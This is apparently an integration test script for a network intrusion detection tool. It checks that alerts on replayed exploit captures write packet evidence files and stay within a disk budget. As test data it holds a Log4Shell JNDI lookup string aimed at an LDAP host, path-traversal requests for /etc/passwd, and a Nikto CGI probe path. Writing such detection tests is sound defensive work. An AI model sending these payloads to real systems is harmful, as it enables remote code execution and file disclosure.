#!/usr/bin/env python3
"""Packet evidence (outputs.pcap) end to end, through `edgewatch replay` with the shipped rules.

- exploit/<capture>: the exploit captures' alerts each name a pcapng file and packet numbers
  ("pcap": {"file", "packets"}); tshark reads the file; the alert's last named packet carries
  the comment with the alert's flow_id and sid, and (for the request alerts) the request's
  bytes; replaying the evidence file alone raises every alert the capture raised.
- budget: 300 alerted flows (a synthetic capture of path traversal requests) with
  max-file-size 4KiB and max-total 16KiB: the files on disk stay within the budget, the
  oldest were removed and counted (files = removed + left), stats.pcap.bytes is what is on
  disk, and every alert named a packet.
- off: without outputs.pcap no alert and no stats event has "pcap" (the goldens stay).
- dir_missing: a directory that is not there: the run succeeds, the alerts go out without
  "pcap", the failures are counted (stats.pcap.open_failed) and said on stderr.
"""
import glob
import json
import os
import subprocess
import sys
import tempfile

import synth
from replay_run import eve_events, final_stats
from result_lines import Results

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.join(HERE, "..", "..")
PCAP_DIR = os.path.join(HERE, "..", "pcaps")
TIMEOUT = 300
# capture -> bytes the request alert's packet holds (the pinned payload literal, MANIFEST)
EXPLOITS = {
    "exploit_lfi-etc-passwd-tfo.pcap": b"../../../etc/passwd",
    "exploit_log4shell-useragent.pcap": b"${jndi:ldap://172.16.238.11:1389/a}",
    "exploit_nikto-cgi-ipv6-vlan.pcap": b"/cgi-bin/cart32.exe",
}


def config(d, pcap_yaml=None):
    path = os.path.join(d, "edgewatch.yaml")
    with open(path, "w") as f:
        f.write("home-net: [198.18.0.0/15, 2001:db8::/32]\n"
                "management:\n  addresses: [198.19.255.254/32]\n"
                "rules:\n  files: [%s/rules/*.rules]\n"
                "  classification: %s/rules/classification.config\n" % (ROOT, ROOT))
        if pcap_yaml:
            f.write("outputs:\n  pcap:\n" + "".join("    %s\n" % l for l in pcap_yaml))
    return path


def replay(binary, cfg, capture, eve):
    proc = subprocess.run([binary, "replay", "-q", "-c", cfg, "-o", eve, capture],
                          capture_output=True, text=True, timeout=TIMEOUT,
                          env=dict(os.environ, EDGEWATCH_RULES_DIR=""))
    return proc, eve_events(eve)


def alerts_of(events):
    return [e for e in events if e.get("event_type") == "alert"]


def tshark_packets(path):
    """{frame number: (comment, tcp payload bytes)} as tshark reads the file, or a why."""
    proc = subprocess.run(["tshark", "-r", path, "-T", "fields", "-E", "separator=/t",
                           "-e", "frame.number", "-e", "frame.comment", "-e", "tcp.payload"],
                          capture_output=True, text=True, timeout=60)
    if proc.returncode:
        return "tshark exit %d: %s" % (proc.returncode, proc.stderr.strip()[-200:])
    out = {}
    for line in proc.stdout.splitlines():
        cols = line.split("\t") + ["", ""]
        out[int(cols[0])] = (cols[1], bytes.fromhex(cols[2].replace(":", "")))
    return out


def check_exploit(binary, res, capture, literal):
    name = "exploit/" + capture
    with tempfile.TemporaryDirectory() as d:
        pdir = os.path.join(d, "pcap")
        os.mkdir(pdir)
        cfg = config(d, ["dir: " + pdir])
        proc, events = replay(binary, cfg, os.path.join(PCAP_DIR, capture),
                              os.path.join(d, "eve.json"))
        alerts = alerts_of(events)
        if proc.returncode or not alerts:
            return res.result(name, "replay exit %d, %d alerts: %s" %
                              (proc.returncode, len(alerts), proc.stderr[-300:]))
        read, flow_sids = {}, {}
        seen_literal = False
        for a in alerts:
            sid, flow_id = a["alert"]["signature_id"], a["flow_id"]
            # a packet is commented by the first alert that wrote it: a later alert of the
            # flow with nothing new to write names those (README, "Packet evidence")
            sids = flow_sids.setdefault(flow_id, set())
            sids.add(sid)
            ev = a.get("pcap")
            if not ev or not ev.get("packets"):
                return res.result(name, "alert sid %d names no packet: %s" % (sid, ev))
            path = os.path.join(pdir, ev["file"])
            if path not in read:
                read[path] = tshark_packets(path)
            pkts = read[path]
            if isinstance(pkts, str):
                return res.result(name, "%s: %s" % (ev["file"], pkts))
            for n in ev["packets"]:
                if n not in pkts:
                    return res.result(name, "sid %d: packet %d not in %s (%d packets)" %
                                      (sid, n, ev["file"], len(pkts)))
                comment = pkts[n][0]
                if "flow_id=%d " % flow_id not in comment or " sid=%d " % sid not in comment:
                    # earlier packets carry the flow's first alert's comment: same flow_id
                    if "flow_id=%d " % flow_id not in comment:
                        return res.result(name, "sid %d packet %d comment %r" %
                                          (sid, n, comment))
            last = pkts[ev["packets"][-1]]
            if not any(" sid=%d " % x in last[0] for x in sids) or \
                    "flow_id=%d " % flow_id not in last[0]:
                return res.result(name, "sid %d: the alert's packet's comment %r" %
                                  (sid, last[0]))
            seen_literal |= literal in last[1]
        if not seen_literal:
            return res.result(name, "no alert's packet holds %r" % literal)
        stats = final_stats(events)
        if not stats or stats.get("pcap", {}).get("alerts") != len(alerts):
            return res.result(name, "stats.pcap %s, %d alerts" %
                              (stats and stats.get("pcap"), len(alerts)))
        # the evidence alone raises the same alerts
        want = sorted(a["alert"]["signature_id"] for a in alerts)
        got = []
        for path in sorted(read):
            p2, ev2 = replay(binary, config(d), path, os.path.join(d, "again.json"))
            if p2.returncode:
                return res.result(name, "replay of %s: exit %d: %s" %
                                  (path, p2.returncode, p2.stderr[-300:]))
            got += [a["alert"]["signature_id"] for a in alerts_of(ev2)]
            os.unlink(os.path.join(d, "again.json"))
        if sorted(got) != want:
            return res.result(name, "the evidence replayed raises %s, the capture %s" %
                              (sorted(got), want))
        res.result(name)


def traversal_flows(count):
    """count TCP flows, each a handshake and one GET of ../../../etc/passwd (sid 9104020)."""
    frames, t = [], 0
    for i in range(count):
        c, s, port = synth.addr(1000 + i), synth.addr(1), 40000 + i % 20000
        req = b"GET /index.php?page=../../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n"
        # the client's SYN at seq 0, so its request (seq 1) starts its stream window at 0
        for src, dst, sp, dp, flags, payload, seq in (
                (c, s, port, 80, synth.TCP_SYN, b"", 0),
                (s, c, 80, port, synth.TCP_SYN | synth.TCP_ACK, b"", 0),
                (c, s, port, 80, synth.TCP_ACK, b"", 1),
                (c, s, port, 80, synth.TCP_ACK | 0x08, req, 1)):
            frames.append((t, synth.eth(synth.tcp(src, dst, sp, dp, flags, payload, seq))))
            t += 1000000
    return synth.pcap(frames)


def check_budget(binary, res):
    name = "budget"
    flows = 300
    with tempfile.TemporaryDirectory() as d:
        pdir = os.path.join(d, "pcap")
        os.mkdir(pdir)
        cap = os.path.join(d, "flood.pcap")
        with open(cap, "wb") as f:
            f.write(traversal_flows(flows))
        cfg = config(d, ["dir: " + pdir, "max-file-size: 4KiB", "max-total: 16KiB"])
        proc, events = replay(binary, cfg, cap, os.path.join(d, "eve.json"))
        alerts = alerts_of(events)
        stats = final_stats(events)
        p = stats and stats.get("pcap")
        on_disk = sum(os.path.getsize(f) for f in glob.glob(os.path.join(pdir, "*")))
        left = len(os.listdir(pdir))
        if proc.returncode or len(alerts) < flows or not p:
            return res.result(name, "exit %d, %d alerts, stats.pcap %s: %s" %
                              (proc.returncode, len(alerts), p, proc.stderr[-300:]))
        if on_disk > 16 * 1024:
            return res.result(name, "%d bytes on disk, budget 16384" % on_disk)
        if not p["files_removed"] or p["files"] != p["files_removed"] + left:
            return res.result(name, "stats.pcap %s, %d files left" % (p, left))
        if p["bytes"] != on_disk:
            return res.result(name, "stats.pcap.bytes %d, on disk %d" % (p["bytes"], on_disk))
        if p["alerts"] != len(alerts) or any("pcap" not in a for a in alerts):
            return res.result(name, "%d alerts, %d with evidence" % (len(alerts), p["alerts"]))
        # the newest alert's packet is still there and is its flow's
        last = alerts[-1]
        pkts = tshark_packets(os.path.join(pdir, last["pcap"]["file"]))
        if isinstance(pkts, str) or "flow_id=%d " % last["flow_id"] not in \
                pkts.get(last["pcap"]["packets"][-1], ("",))[0]:
            return res.result(name, "the newest alert's packet: %s" % (pkts if isinstance(
                pkts, str) else pkts.get(last["pcap"]["packets"][-1])))
        res.result(name)


def check_off(binary, res):
    with tempfile.TemporaryDirectory() as d:
        proc, events = replay(binary, config(d), os.path.join(PCAP_DIR, list(EXPLOITS)[0]),
                              os.path.join(d, "eve.json"))
        bad = [e["event_type"] for e in events if "pcap" in e or
               "pcap" in e.get("stats", {})]
        res.result("off", None if not proc.returncode and alerts_of(events) and not bad else
                   "exit %d, %d alerts, pcap in %s" % (proc.returncode,
                                                       len(alerts_of(events)), bad))


def check_dir_missing(binary, res):
    with tempfile.TemporaryDirectory() as d:
        cfg = config(d, ["dir: " + os.path.join(d, "not-there")])
        proc, events = replay(binary, cfg, os.path.join(PCAP_DIR, list(EXPLOITS)[0]),
                              os.path.join(d, "eve.json"))
        alerts = alerts_of(events)
        p = (final_stats(events) or {}).get("pcap", {})
        why = None
        if proc.returncode or not alerts or any("pcap" in a for a in alerts):
            why = "exit %d, %d alerts (pcap in some?)" % (proc.returncode, len(alerts))
        elif p.get("open_failed", 0) < len(alerts) or p.get("packets"):
            why = "stats.pcap %s" % p
        elif "outputs.pcap" not in proc.stderr or "not-there" not in proc.stderr:
            why = "stderr does not say where: %s" % proc.stderr[-300:]
        res.result("dir_missing", why)


def main():
    binary = sys.argv[1] if len(sys.argv) > 1 else ".output/edgewatch"
    res = Results("pcap_evidence")
    if subprocess.run(["which", "tshark"], capture_output=True).returncode:
        res.skip("all", "tshark is not installed (scripts/deps.sh installs it)")
        return 0
    for capture, literal in EXPLOITS.items():
        check_exploit(binary, res, capture, literal)
    check_budget(binary, res)
    check_off(binary, res)
    check_dir_missing(binary, res)
    return res.exit_code()


if __name__ == "__main__":
    sys.exit(main())
